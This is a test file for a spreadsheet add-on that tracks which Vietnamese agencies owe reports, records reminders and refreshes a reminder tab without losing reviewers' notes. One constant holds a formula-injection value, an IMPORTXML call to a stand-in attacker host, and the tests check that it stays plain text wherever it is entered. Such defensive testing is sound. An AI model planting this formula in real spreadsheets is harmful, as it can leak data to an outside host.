// Reminding agencies as a reviewer: the list, marking, and the tab that is refreshed without losing a word.
import { describe, expect, test } from "vitest";
import type { RemindersView } from "../../addon/contract/reminders.ts";
import { showInstant } from "../../shared/wording/instant.ts";
import { REMINDERS_TAB } from "../../shared/wording/reminders-screen.ts";
import { formOf, goodReport } from "../shared/golden.ts";
import { formulasIn, problem, rowsOf, tabOf, value } from "./answers.ts";
import { type Harness, startEnvironment } from "./environment.ts";
import { readSheet, TABS, typeReport } from "./sheet-reader.ts";

const PERIOD = "kh-6134-2021";
const CLOSED = "kh-6134-2020";
const TAB = `${REMINDERS_TAB.tab} – Năm 2021`;
const HOSTILE = '=IMPORTXML("https://attacker.example";"//a")';
const HEAD_ROW = 4;
/** 10/12/2021 as the spreadsheet counts days. */
const COLUMNS = Object.keys(REMINDERS_TAB.columns) as (keyof typeof REMINDERS_TAB.columns)[];
/** The hidden key stands before them. */
const columnOf = (id: keyof typeof REMINDERS_TAB.columns) => COLUMNS.indexOf(id) + 2;

const environment = startEnvironment();

const itemsOf = ({ groups }: RemindersView) =>
  groups.flatMap(({ items, reason }) => items.map((item) => ({ ...item, reason })));
const itemOf = (view: RemindersView, id: string) => itemsOf(view).find(({ agency }) => agency.id === id);

/** The row of an agency in the tab, counted from 1. */
function rowOf(harness: Harness, id: string, name = TAB): number {
  const at = rowsOf(harness, name).findIndex(([key = ""]) => key.split(" ")[0] === id);
  if (at < 0) throw new Error(`no row of ${id} in ${name}`);
  return at + 1;
}
const typeAt = (harness: Harness, id: string, column: keyof typeof REMINDERS_TAB.columns, text: string) =>
  harness.fake.type(TAB, rowOf(harness, id), columnOf(column), text);
const textAt = (harness: Harness, id: string, column: keyof typeof REMINDERS_TAB.columns, name = TAB) =>
  rowsOf(harness, name)[rowOf(harness, id, name) - 1]?.[columnOf(column) - 1];
const tabNames = ({ fake }: Harness) => fake.spreadsheet.sheets().map((each) => each.name());

describe("the list", () => {
  test("names who owes something by reason, with whom to ask and texts for that very agency", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    const view = value(harness.addon.listReminders(PERIOD));
    expect(view.groups.map(({ items, label, reason }) => [reason, label, items.length])).toEqual([
      ["not_sent", "Chưa gửi báo cáo, còn trong hạn", 26],
      ["returned", "Chưa gửi lại báo cáo đã được yêu cầu chỉnh lý", 1],
      ["incomplete", "Báo cáo đã duyệt còn nhiệm vụ chưa báo cáo hoặc quá hạn", expect.any(Number)],
      ["invited", "Được đề nghị báo cáo, chưa gửi", expect.any(Number)],
    ]);
    const { texts, ...returned } = itemOf(view, "ubnd-ba-tri") ?? {};
    expect(returned).toEqual({
      agency: { id: "ubnd-ba-tri", name: "Ủy ban nhân dân huyện Ba Tri" },
      reason: "returned",
      why: "Chưa gửi lại báo cáo được yêu cầu chỉnh lý ngày 10/12/2021 (1 nội dung)",
      contacts: [
        { name: "Người minh họa", phone: "0275 3000 000", email: null },
        { name: "Người minh họa B", phone: null, email: "bao-cao-ubnd-ba-tri@demo.example" },
      ],
      last: null,
    });
    expect(texts?.email.body).toMatch(/^Kính gửi: Ủy ban nhân dân huyện Ba Tri\n/);
    expect(view.texts?.email.body).toMatch(/^Kính gửi: Các cơ quan, đơn vị, địa phương\n/);
  });

  test("is for reviewers alone", async () => {
    for (const person of ["bao-cao-so-tai-chinh", "theo-doi"]) {
      const { addon } = await environment.openHarness(person);
      expect([
        problem(addon.listReminders(PERIOD)),
        problem(addon.markReminded(PERIOD, ["so-tai-chinh"])),
        problem(addon.writeReminders(PERIOD)),
      ]).toEqual(["role_forbidden", "role_forbidden", "role_forbidden"]);
    }
  });

  test("without network nothing is written and no tab appears", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    harness.intercept(() => {
      throw new Error("no network");
    });
    expect([
      problem(harness.addon.listReminders(PERIOD)),
      problem(harness.addon.markReminded(PERIOD, ["so-tai-chinh"])),
      problem(harness.addon.writeReminders(PERIOD)),
    ]).toEqual(["offline", "offline", "offline"]);
    expect(tabNames(harness)).toEqual(["Trang tính1"]);
  });
});

describe("marking as reminded", () => {
  test("is seen at once by who marked and by a colleague, and leaves all others as they were", async () => {
    const mine = await environment.openHarness("tong-hop-1");
    const theirs = await environment.openHarness("tong-hop-2");
    const before = value(theirs.addon.listReminders(PERIOD));
    const after = value(mine.addon.markReminded(PERIOD, ["so-y-te", "so-xay-dung"]));
    const at = itemOf(after, "so-y-te")?.last;
    expect(showInstant(at ?? "")).toMatch(/^10\/12\/2021 /);
    const marked = (id: string) => id === "so-y-te" || id === "so-xay-dung";
    expect(after).toEqual({
      ...before,
      groups: before.groups.map((group) => ({
        ...group,
        items: group.items.map((item) => (marked(item.agency.id) ? { ...item, last: at } : item)),
      })),
    });
    expect(value(theirs.addon.listReminders(PERIOD))).toEqual(after);
    const later = value(theirs.addon.markReminded(PERIOD, ["so-y-te"]));
    expect(value(mine.addon.listReminders(PERIOD))).toEqual(later);
  });

  test("stores none where one of them no longer owes anything", async () => {
    const { addon } = await environment.openHarness("tong-hop-1");
    const before = value(addon.listReminders(PERIOD));
    expect(problem(addon.markReminded(PERIOD, ["so-cong-thuong", "so-noi-vu"]))).toBe("nothing_to_remind");
    expect(value(addon.listReminders(PERIOD))).toEqual(before);
  });

  test("in a closed period the list is there, and marking is refused", async () => {
    const { addon } = await environment.openHarness("tong-hop-1");
    const view = value(addon.listReminders(CLOSED));
    expect([view.groups[0]?.reason, itemOf(view, "so-noi-vu")?.why]).toEqual([
      "late",
      "Chưa gửi báo cáo, quá hạn 357 ngày",
    ]);
    expect(problem(addon.markReminded(CLOSED, ["so-noi-vu"]))).toBe("period_closed");
  });

  test("where the answer was lost, the list shows that it was stored", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    harness.intercept((_, send) => {
      send();
      throw new Error("the answer was lost");
    });
    expect(problem(harness.addon.markReminded(PERIOD, ["so-giao-thong-van-tai"]))).toBe("offline");
    harness.intercept(null);
    const item = itemOf(value(harness.addon.listReminders(PERIOD)), "so-giao-thong-van-tai");
    expect(showInstant(item?.last ?? "")).toMatch(/^10\/12\/2021 /);
  });
});

describe("the tab", () => {
  test("holds a row an agency: numbers as numbers, all else as text", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    const marked = value(harness.addon.markReminded(PERIOD, ["so-ke-hoach-dau-tu"]));
    const written = value(harness.addon.writeReminders(PERIOD));
    expect(written).toEqual({ view: marked, tab: TAB, aside: null });
    const rows = rowsOf(harness, TAB);
    expect(rows[HEAD_ROW - 1]?.slice(1, COLUMNS.length + 1)).toEqual(
      COLUMNS.map((id) => REMINDERS_TAB.columns[id]),
    );
    expect(rows.slice(HEAD_ROW).map(([key = ""]) => key.split(" ")[0])).toEqual(
      itemsOf(written.view).map(({ agency }) => agency.id),
    );
    const tab = tabOf(harness, TAB);
    const cellOf = (id: string, column: keyof typeof REMINDERS_TAB.columns) => {
      const at = { row: rowOf(harness, id), column: columnOf(column) };
      return [tab.content(at).value, tab.style(at).numberFormat];
    };
    expect(cellOf("so-ke-hoach-dau-tu", "left")).toEqual([7, "#,##0"]);
    expect(cellOf("ubnd-ba-tri", "late")).toEqual([0, "#,##0"]);
    expect(cellOf("so-ke-hoach-dau-tu", "last")).toEqual(["10/12/2021", "@"]);
    expect(cellOf("ubnd-ba-tri", "contact")).toEqual([
      "Người minh họa, 0275 3000 000; Người minh họa B, bao-cao-ubnd-ba-tri@demo.example",
      "@",
    ]);
    const guarded = tab.extras().protections.map(({ rect, warningOnly }) => ({ ...rect, warningOnly }));
    const warning = { warningOnly: true };
    expect(guarded).toEqual([
      { row: 1, column: 1, rows: HEAD_ROW, columns: COLUMNS.length + 1, ...warning },
      {
        row: HEAD_ROW + 1,
        column: 1,
        rows: rows.length - HEAD_ROW,
        columns: columnOf("note") - 1,
        ...warning,
      },
      {
        ...warning,
        ...{ row: HEAD_ROW + 1, column: columnOf("note") + 1, rows: rows.length - HEAD_ROW },
        columns: COLUMNS.length + 1 - columnOf("note"),
      },
    ]);
    const { texts } = itemOf(written.view, "ubnd-ba-tri") ?? {};
    expect(["subject", "body", "zalo"].map((id) => cellOf("ubnd-ba-tri", id as "body"))).toEqual([
      [texts?.email.subject, "@"],
      [texts?.email.body, "@"],
      [texts?.zalo, "@"],
    ]);
  });

  test("keeps its rows low, so that many agencies are in sight under long letters", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    harness.fake.calls.reset();
    value(harness.addon.writeReminders(PERIOD));
    expect(harness.fake.calls.byName["Sheet.setRowHeightsForced"]).toBe(1);
  });

  test("is refreshed in place under the name that a person gave it, and notes stay with their agencies", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    value(harness.addon.writeReminders(PERIOD));
    typeAt(harness, "so-tai-chinh", "note", "Đã gọi, hẹn thứ Sáu");
    typeAt(harness, "ubnd-ba-tri", "note", HOSTILE);
    const tab = tabOf(harness, TAB);
    // As sorting does: rows change places whole, with their keys.
    const [one, other] = [rowOf(harness, "so-tai-chinh"), rowOf(harness, "ubnd-ba-tri")];
    for (let column = 1; column <= COLUMNS.length + 1; column++) {
      const [a, b] = [tab.content({ row: one, column }), tab.content({ row: other, column })];
      tab.write([
        { row: one, column, ...b },
        { row: other, column, ...a },
      ]);
    }
    tab.rename("Gọi điện");
    value(harness.addon.markReminded(PERIOD, ["so-tai-chinh"]));
    const again = value(harness.addon.writeReminders(PERIOD));
    expect([again.tab, again.aside, tabNames(harness)]).toEqual([
      "Gọi điện",
      null,
      ["Trang tính1", "Gọi điện"],
    ]);
    expect([
      textAt(harness, "so-tai-chinh", "note", "Gọi điện"),
      textAt(harness, "ubnd-ba-tri", "note", "Gọi điện"),
      formulasIn(harness, "Gọi điện"),
    ]).toEqual(["Đã gọi, hẹn thứ Sáu", HOSTILE, 0]);
  });

  test("in a file of another language and time zone nothing that the add-on wrote is taken for a person's", async () => {
    const harness = await environment.openHarness("tong-hop-1", {
      locale: "en_US",
      timeZone: "America/New_York",
    });
    value(harness.addon.markReminded(PERIOD, ["so-tai-chinh"]));
    value(harness.addon.writeReminders(PERIOD));
    typeAt(harness, "so-tai-chinh", "note", "5/11/2021");
    expect(value(harness.addon.writeReminders(PERIOD)).aside).toBe(null);
    expect([textAt(harness, "so-tai-chinh", "note"), textAt(harness, "so-tai-chinh", "last")]).toEqual([
      "5/11/2021",
      "10/12/2021",
    ]);
  });

  const ADDITIONS: [string, (harness: Harness) => void][] = [
    ["beside the table", (harness) => harness.fake.type(TAB, HEAD_ROW + 2, COLUMNS.length + 3, "Lời riêng")],
    ["below the table", (harness) => harness.fake.type(TAB, rowsOf(harness, TAB).length + 2, 3, "Lời riêng")],
    [
      "in a row of their own",
      (harness) => harness.fake.type(TAB, rowsOf(harness, TAB).length + 1, 12, "Lời riêng"),
    ],
    ["above the table", (harness) => harness.fake.type(TAB, 2, 6, "Lời riêng")],
    ["over a letter", (harness) => typeAt(harness, "so-tai-chinh", "body", "Lời riêng")],
    ["over a contact", (harness) => typeAt(harness, "so-tai-chinh", "contact", "Lời riêng")],
    ["over a number", (harness) => typeAt(harness, "so-tai-chinh", "left", "Lời riêng")],
    [
      "in a column whose head they renamed",
      (harness) => harness.fake.type(TAB, HEAD_ROW, columnOf("note"), "Lời riêng"),
    ],
  ];
  test.each(ADDITIONS)(
    "what a person wrote %s stays in the old tab, which is named, and the new one stands beside",
    async (_, write) => {
      const harness = await environment.openHarness("tong-hop-1");
      value(harness.addon.writeReminders(PERIOD));
      write(harness);
      const old = rowsOf(harness, TAB);
      const again = value(harness.addon.writeReminders(PERIOD));
      expect([again.tab, again.aside]).toEqual([TAB, `${TAB} (bản cũ)`]);
      expect(rowsOf(harness, `${TAB} (bản cũ)`)).toEqual(old);
      expect(old.flat()).toContain("Lời riêng");
      expect(rowsOf(harness, TAB).flat()).not.toContain("Lời riêng");
      expect(value(harness.addon.writeReminders(PERIOD)).aside).toBe(null);
    },
  );

  test("a comment that a person put on a cell stays with the old tab, and the notes go on in the new one", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    value(harness.addon.writeReminders(PERIOD));
    typeAt(harness, "so-tai-chinh", "note", "Đã gọi");
    const at = { row: rowOf(harness, "so-tai-chinh"), column: columnOf("contact") };
    tabOf(harness, TAB).setNotes([{ ...at, note: "Số máy đã đổi" }]);
    const { aside } = value(harness.addon.writeReminders(PERIOD));
    expect(aside).toBe(`${TAB} (bản cũ)`);
    expect([tabOf(harness, `${TAB} (bản cũ)`).note(at), tabOf(harness, TAB).note(at)]).toEqual([
      "Số máy đã đổi",
      "",
    ]);
    expect(textAt(harness, "so-tai-chinh", "note")).toBe("Đã gọi");
  });

  test("what agencies wrote never becomes a formula, however it begins, and long words are cut", async () => {
    const agency = await environment.openHarness("bao-cao-so-tai-chinh");
    value(agency.addon.buildSheet(PERIOD));
    typeReport(agency, goodReport(formOf("so-tai-chinh")));
    readSheet(agency, TABS.assessment, "assessment").type("contact_name", "text", HOSTILE);
    value(agency.addon.checkSheet(PERIOD));
    value(agency.addon.sendReport(PERIOD));
    const harness = await environment.openHarness("tong-hop-1");
    value(harness.addon.writeReminders(PERIOD));
    value(harness.addon.writeReminders(PERIOD));
    const { head } = value(harness.addon.openReport(PERIOD, "so-tai-chinh"));
    const reason = `${HOSTILE} ${"rất dài ".repeat(240)}`.trim();
    value(harness.addon.returnReport(PERIOD, "so-tai-chinh", 1, head.rev, reason, null));
    const { view } = value(harness.addon.writeReminders(PERIOD));
    const item = itemOf(view, "so-tai-chinh");
    expect(item?.contacts[0]?.name).toBe(HOSTILE);
    expect(item?.texts.email.body).toContain(`lý do: ${HOSTILE} rất dài`);
    expect(item?.texts.email.body.length).toBeLessThan(2_000);
    expect(textAt(harness, "so-tai-chinh", "contact")?.startsWith(HOSTILE)).toBe(true);
    expect(formulasIn(harness, TAB)).toBe(0);
    expect(value(harness.addon.writeReminders(PERIOD)).aside).toBe(null);
  });

  test("an agency that owes nothing any more goes, but stays named while there is a note of it", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    value(harness.addon.writeReminders(PERIOD));
    typeAt(harness, "ubnd-binh-dai", "note", "Gửi thư ngày 09/12");
    const gone = ["ubnd-binh-dai", "ubnd-chau-thanh"];
    const without = (body: string) => {
      const reply = JSON.parse(body);
      const kept = (id: string) => !gone.includes(id);
      const groups = reply.groups.map((group: { agencies: string[] }) => ({
        ...group,
        agencies: group.agencies.filter(kept),
      }));
      const lines = reply.lines.filter((line: { agency: { id: string } }) => kept(line.agency.id));
      return JSON.stringify({ ...reply, groups, lines });
    };
    harness.intercept((_, send) => {
      const reply = send();
      return { ...reply, body: without(reply.body) };
    });
    for (let again = 0; again < 2; again++) {
      expect(value(harness.addon.writeReminders(PERIOD)).aside).toBe(null);
      const row = rowsOf(harness, TAB)[rowOf(harness, "ubnd-binh-dai") - 1]?.slice(1, COLUMNS.length + 1);
      const left: Partial<Record<(typeof COLUMNS)[number], string>> = {
        agency: "Ủy ban nhân dân huyện Bình Đại",
        reason: REMINDERS_TAB.gone,
        note: "Gửi thư ngày 09/12",
      };
      expect(row).toEqual(COLUMNS.map((id) => left[id] ?? ""));
      expect(() => rowOf(harness, "ubnd-chau-thanh")).toThrow();
    }
  });

  test("says so where nobody is left, and is refreshed from there", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    harness.intercept((_, send) => {
      const reply = send();
      const nobody = { lines: [], invited: [], groups: [], texts: null };
      return { ...reply, body: JSON.stringify({ ...JSON.parse(reply.body), ...nobody }) };
    });
    value(harness.addon.writeReminders(PERIOD));
    expect(rowsOf(harness, TAB)[HEAD_ROW]?.[1]).toBe(REMINDERS_TAB.empty);
    expect(value(harness.addon.writeReminders(PERIOD)).aside).toBe(null);
    harness.intercept(null);
    expect(value(harness.addon.writeReminders(PERIOD)).aside).toBe(null);
    expect(rowsOf(harness, TAB).flat()).not.toContain(REMINDERS_TAB.empty);
  });

  test("costs the same calls for three agencies and for three hundred", async () => {
    const callsWith = async (agencies: number) => {
      const harness = await environment.openHarness("tong-hop-1");
      harness.intercept((_, send) => {
        const reply = send();
        const view = JSON.parse(reply.body);
        const lines = Array.from({ length: agencies }, (_, at) => ({
          ...view.lines[0],
          agency: { id: `agency-${at}`, name: `Cơ quan ${at}`, shortName: `Cơ quan ${at}` },
        }));
        const group = { ...view.groups[0], agencies: lines.map(({ agency }) => agency.id), count: agencies };
        return { ...reply, body: JSON.stringify({ ...view, lines, invited: [], groups: [group] }) };
      });
      harness.fake.calls.reset();
      value(harness.addon.writeReminders(PERIOD));
      value(harness.addon.writeReminders(PERIOD));
      return { ...harness.fake.calls.byName };
    };
    expect(await callsWith(300)).toEqual(await callsWith(3));
  });
});
